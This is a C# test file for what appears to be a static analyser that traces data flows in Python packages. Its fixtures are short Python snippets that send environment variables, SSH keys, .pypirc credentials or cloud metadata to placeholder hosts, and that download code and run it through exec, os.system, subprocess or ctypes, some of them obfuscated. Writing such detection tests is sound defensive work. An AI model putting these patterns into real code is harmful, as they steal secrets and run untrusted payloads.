namespace Bonded.Python.Tests.Evaluation;

/// <summary>What flows where: an effect as text, per source.</summary>
public sealed class FlowTests
{
    [Theory]
    // From the environment, whole or in part, through whatever holds it on the way.
    [InlineData("import os, requests\nrequests.post('u', data=os.environ)", "HttpRequest requests.post 'u' from Environment")]
    [InlineData("import os, requests\nrequests.post('u', json=dict(os.environ))", "HttpRequest requests.post 'u' from Environment")]
    [InlineData("import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post('u', json=d)", "HttpRequest requests.post 'u' from Environment")]
    [InlineData("import os, requests\nd = {k: v for k, v in os.environ.items()}\nrequests.post('u', json=d)", "HttpRequest requests.post 'u' from Environment")]
    [InlineData("import os, requests\nrequests.post('u', data=os.environ['HOME'])", "HttpRequest requests.post 'u' from Variable")]
    [InlineData("import os, requests\nrequests.post('u', data=os.getenv('HOME'))", "HttpRequest requests.post 'u' from Variable")]
    [InlineData("import os, requests\nl = []\nfor k in os.environ:\n    l.append(k)\nrequests.post('u', ','.join(l))", "HttpRequest requests.post 'u' from Environment")]
    [InlineData("import os, requests, json, base64\nb = base64.b64encode(json.dumps(dict(os.environ)).encode())\nrequests.get('http://h/?' + b.decode())", "HttpRequest requests.get 'http://h/??' from Environment via Encode, Serialize")]
    [InlineData("import socket, requests\nrequests.get(f'http://h/{socket.gethostname()}/x')", "HttpRequest requests.get 'http://h/?/x' from Host")]
    [InlineData("import socket, requests\nrequests.get('http://h/%s' % socket.gethostname())", "HttpRequest requests.get 'http://h/?' from Host")]
    [InlineData("import socket, requests\nrequests.get('http://h/{}'.format(socket.gethostname()))", "HttpRequest requests.get 'http://h/?' from Host")]
    // From files, by their path.
    [InlineData("import os, requests\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\nrequests.post('u', open(p).read())", "HttpRequest requests.post 'u' from Keys")]
    [InlineData("import os, requests\nwith open(os.path.expanduser('~/.pypirc')) as f:\n    for line in f:\n        requests.post('u', line)", "HttpRequest requests.post 'u' from Credentials")]
    [InlineData("import requests\nfrom pathlib import Path\nrequests.post('u', (Path.home() / '.ssh' / 'id_rsa').read_text())", "HttpRequest requests.post 'u' from Keys")]
    [InlineData("import os, requests\nfor n in ('.pypirc', '.other'):\n    requests.post('u', open(os.path.expanduser('~/' + n)).read())", "HttpRequest requests.post 'u' from Credentials, File")]
    [InlineData("import os, requests\nd = os.name == 'nt' and 'a' or '/.ssh'\nrequests.post('u', open(d).read())", "HttpRequest requests.post 'u' from Keys, File")]
    [InlineData("import requests\nrequests.post('u', requests.get('http://169.254.169.254/x').text)", "HttpRequest requests.post 'u' from MetadataService")]
    // Through functions, objects and modules.
    [InlineData("import os, requests\ndef send(x):\n    requests.post('u', x)\nsend(os.environ)", "HttpRequest requests.post 'u' from Environment in send")]
    [InlineData("import os, requests\ndef send(u, x):\n    requests.post(u, x)\ndef go():\n    send('v', os.environ)", "HttpRequest requests.post 'v' from Environment in send")]
    [InlineData("import os, requests\ndef a(x):\n    b(x)\ndef b(y):\n    c(y)\ndef c(z):\n    requests.post('u', z)\ndef go():\n    a(os.environ)", "HttpRequest requests.post 'u' from Environment in c")]
    [InlineData("import os, requests\ndef get():\n    return os.environ\nrequests.post('u', get())", "HttpRequest requests.post 'u' from Environment")]
    [InlineData("import os, requests\nclass A:\n    def load(self):\n        self.d = dict(os.environ)\n    def send(self):\n        requests.post('u', self.d)", "HttpRequest requests.post 'u' from Environment in A.send")]
    [InlineData("import os, requests\nclass A:\n    def __init__(self, d):\n        self.d = d\n    def send(self):\n        requests.post('u', self.d)\nA(os.environ).send()", "HttpRequest requests.post 'u' from Environment in A.send")]
    [InlineData("import os, requests\nclass A:\n    def send(self):\n        requests.post('u', self.d)\n    def load(self):\n        self.d = os.environ", "HttpRequest requests.post 'u' from Environment in A.send")]
    [InlineData("import os, requests\nd = None\ndef load():\n    global d\n    d = os.environ\ndef send():\n    requests.post('u', d)\n", "HttpRequest requests.post 'u' from Environment in send")]
    [InlineData("import os, requests, threading\ndef send(x):\n    requests.post('u', x)\nthreading.Thread(target=send, args=(os.environ,)).start()", "HttpRequest requests.post 'u' from Environment in send")]
    [InlineData("import os, requests\nx = yet(unknown(os.environ), 1)\nrequests.post('u', x)", "HttpRequest requests.post 'u' from Environment")]
    [InlineData("import os, urllib.request\nr = urllib.request.Request('http://h', data=os.environ)\nurllib.request.urlopen(r)", "HttpRequest urllib.request.urlopen 'http://h' from Environment")]
    // From the network into code, processes and files.
    [InlineData("import requests\nexec(requests.get('http://h').text)", "DynamicCode builtins.exec from Network")]
    [InlineData("try:\n    from urllib.request import urlopen\nexcept ImportError:\n    from urllib2 import urlopen\nexec(urlopen('http://h').read())", "DynamicCode builtins.exec from Network")]
    [InlineData("import requests, subprocess, os, tempfile\np = tempfile.mktemp()\nopen(p, 'wb').write(requests.get('http://h').content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])", "ProcessRun subprocess.Popen '?' from Network via ViaFile")]
    [InlineData("import requests, os\nwith open('/tmp/p.sh', 'wb') as f:\n    for c in requests.get('http://h').iter_content(1):\n        f.write(c)\nos.system('sh /tmp/p.sh')", "ProcessRun os.system 'sh /tmp/p.sh' from Network via ViaFile")]
    [InlineData("import urllib.request, os\nurllib.request.urlretrieve('http://h', '/tmp/q.exe')\nos.system('/tmp/q.exe')", "ProcessRun os.system '/tmp/q.exe' from Network via ViaFile")]
    [InlineData("import requests, os\nfrom pathlib import Path\nPath('/tmp/z.py').write_bytes(requests.get('http://h').content)\nos.system('python /tmp/z.py')", "ProcessRun os.system 'python /tmp/z.py' from Network via ViaFile")]
    [InlineData("import requests, ctypes\nopen('lib.so', 'wb').write(requests.get('http://h').content)\nctypes.CDLL('lib.so')", "NativeLoad ctypes.CDLL 'lib.so' from Network via ViaFile")]
    [InlineData("import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))", "DynamicCode builtins.exec from None via Decode, Unmarshal")]
    [InlineData("import requests\nc = compile(requests.get('http://h').text, 'x', 'exec')\nexec(c)", "DynamicCode builtins.exec from Network via Compile")]
    [InlineData("import socket\ns = socket.socket()\ns.connect(('h', 1))\nexec(s.recv(9))", "DynamicCode builtins.exec from Network")]
    public void Data_is_followed_to_where_it_goes(string source, string effect)
    {
        var analysis = Analysis.Of(source);
        Assert.Contains(effect.Replace(" from None", "", StringComparison.Ordinal), analysis.Effects);
    }

    [Theory]
    // An answer is not made of the question; a file is not made of its path.
    [InlineData("import os, requests\nr = requests.get('u', os.environ['T'])\nrequests.post('v', r.text)", "HttpRequest requests.post 'v' from Network")]
    [InlineData("import os\nd = open(os.environ['P']).read()\nos.system(d)", "ProcessRun os.system from File")]
    // What is overwritten is gone.
    [InlineData("import os, requests\nx = os.environ\nx = 'a'\nrequests.post('u', x)", "HttpRequest requests.post 'u'")]
    // What another function passes does not mix in.
    [InlineData("import os, requests\ndef f(x):\n    return x\na = f(os.environ)\nb = f('b')\nrequests.post('u', b)", "HttpRequest requests.post 'u'")]
    public void Data_does_not_flow_where_it_does_not_go(string source, string effect)
    {
        var analysis = Analysis.Of(source);
        Assert.Contains(effect, analysis.Effects);
    }

    [Theory]
    [InlineData("import os\nos.environ['A'] = 'b'", "EnvironmentWrite os.environ 'A'")]
    [InlineData("import builtins\nbuiltins.open = 1", "Patch builtins.open 'builtins.open'")]
    [InlineData("import requests\nsetattr(requests.Session, 'send', lambda s: 1)", "Patch requests.Session.send 'requests.Session.send'")]
    [InlineData("import sys\nsys.modules['json'] = None", "Patch sys.modules.json 'sys.modules.json'")]
    [InlineData("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1)", "NativeCall ctypes.windll.kernel32.VirtualAlloc 'VirtualAlloc'")]
    [InlineData("import ctypes\nk = ctypes.windll.kernel32\ngetattr(k, 'Virtual' + 'Alloc')(0)", "NativeCall ctypes.windll.kernel32.VirtualAlloc 'VirtualAlloc'")]
    [InlineData("import os\ngetattr(os, 'sys' + 'tem')", "Reflection os 'system'")]
    [InlineData("import os, sys\ngetattr(os, sys.argv[1])", "Reflection os")]
    [InlineData("__import__('o' + 's')", "DynamicImport builtins.__import__ 'os'")]
    [InlineData("import socket\nif socket.gethostname() == 'sandbox':\n    pass", "HostCheck socket.gethostname() 'sandbox' from Host")]
    [InlineData("import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", "ProcessRun subprocess.run '? -m pip install x'")]
    [InlineData("import atexit, os\ndef f():\n    os.system('id')\natexit.register(f)", "Hook atexit.register")]
    public void What_reaches_outside_is_told(string source, string effect)
    {
        var analysis = Analysis.Of(source);
        Assert.Contains(effect, analysis.Effects);
    }

    [Theory]
    [InlineData("import os\ngetattr(os, 'system')")]
    [InlineData("__import__('os')")]
    [InlineData("import importlib\nimportlib.import_module('os')")]
    public void What_a_name_says_plainly_is_no_reflection(string source) => Assert.Empty(Analysis.Of(source).Effects);
}
